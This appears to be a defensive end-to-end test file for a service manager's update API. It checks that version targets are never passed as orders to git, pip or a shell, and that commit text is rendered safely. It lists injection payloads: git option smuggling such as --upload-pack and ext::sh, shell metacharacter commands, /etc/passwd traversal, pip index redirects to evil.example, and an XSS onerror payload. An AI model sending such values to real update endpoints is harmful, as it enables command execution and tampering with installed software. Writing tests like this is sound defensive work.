import { JSON_TYPE, watch } from "./attack/requests";
import { expect, updateTest as test } from "./fixtures";
import { button } from "./page";

/** What is no version, branch, tag or commit. `MARK` is a file that comes to be where one of them is run. */
const TARGETS: unknown[] = [
  "--upload-pack=touch MARK",
  "--config=core.sshCommand=touch MARK",
  "--output=MARK",
  "-oProxyCommand=touch MARK",
  "-c",
  "-",
  "--",
  "--index-url=http://evil.example",
  "-r /etc/passwd",
  "ext::sh -c touch% MARK",
  "file:///etc",
  "git+ext::sh -c touch% MARK",
  "https://evil.example/x.git",
  "git@evil.example:x",
  "../../etc/passwd",
  "/etc/passwd",
  "$(touch MARK)",
  "`touch MARK`",
  "master; touch MARK",
  "master| touch MARK",
  "master&&touch MARK",
  "master\ntouch MARK",
  "master\0",
  "master --force",
  "+master",
  "master:refs/heads/mine",
  "master~1",
  "master^{/x}",
  "HEAD@{1}",
  "@{-1}",
  ":/x",
  "refs/heads/*",
  "widget==1.0",
  ">=1.0",
  "1.*",
  "1.0 --index-url http://evil.example",
  "1.0 @ file:///etc",
  "1.0; python_version > '3'",
  "mas\u202eter",
  "m\u0430ster master",
  "",
  " ",
  "x".repeat(201),
  1,
  true,
  ["master"],
  { toString: "master" },
];
/** Names that could be one, and lead out of where branches are. */
const ODD_NAMES = ["master..v1", "heads/../../config", "master//", "master/", "a/./b", "master!"];

const address = (name: string, rest: string) => `/api/services/${name}/${rest}`;
const headers = Object.fromEntries([JSON_TYPE]);

test("what an update is told to go to is never an order to git, pip or a shell", async ({
  comfy,
  machine,
  request,
}) => {
  const head = comfy.git("rev-parse", "HEAD");
  const config = comfy.git("config", "--list", "--local");
  const expectUnchanged = await watch(machine);
  const ask = async (method: "POST" | "PUT", path: string, data: unknown) => {
    const answer = await request.fetch(path, { method, headers, data: JSON.stringify(data) });
    expect.soft(String(answer.status()), `${path} ${JSON.stringify(data)}`).toMatch(/^4/);
  };

  for (const name of ["comfy", "invoke"]) {
    for (const wish of TARGETS) {
      const target = typeof wish === "string" ? wish.replace("MARK", `${machine.dir}/mark`) : wish;
      await ask("POST", address(name, "update/start"), { target_version: target });
      await ask("POST", address(name, "update/plan"), { target_version: target });
      await ask("POST", address(name, "update/rollback"), { to: target });
      await ask("PUT", address(name, "settings/update"), { policy: "pinned", target });
      await ask("PUT", address(name, "settings/update"), { skip: target });
    }
  }
  for (const target_version of ODD_NAMES) {
    const plan = await request.post(address("comfy", "update/plan"), { data: { target_version } });
    const { blockers } = (await plan.json()) as { blockers: unknown[] };
    expect.soft(JSON.stringify(blockers), target_version).toContain(target_version);
  }

  expect(await (await request.get("/api/updates/jobs")).json()).toEqual([]);
  expect(comfy.git("rev-parse", "HEAD")).toBe(head);
  expect(comfy.git("config", "--list", "--local")).toBe(config);
  expect(comfy.git("status", "--porcelain")).toBe("");
  await expectUnchanged();

  const target_version = comfy.publish("two");
  const plan = await request.post(address("comfy", "update/plan"), { data: { target_version } });
  expect(await plan.json()).toMatchObject({ blockers: [] });
});

test("what a commit says of itself is text in the plan, and files with odd names are files", async ({
  comfy,
  page,
}) => {
  const subject = `<img id="hostile" src="x" onerror="alert(1)"> \u001b]8;;javascript:alert(1)\u0007`;
  comfy.publish("two", { subject });
  comfy.edit("--upload-pack=x; touch mark.py", "edited");
  await page.goto("/");
  await button(page, "Update Comfy UI").click();
  const plan = page.getByRole("dialog", { name: "Update Comfy UI" });
  await expect(plan).toContainText('<img id="hostile"');
  await expect(page.locator("#hostile")).toHaveCount(0);
});
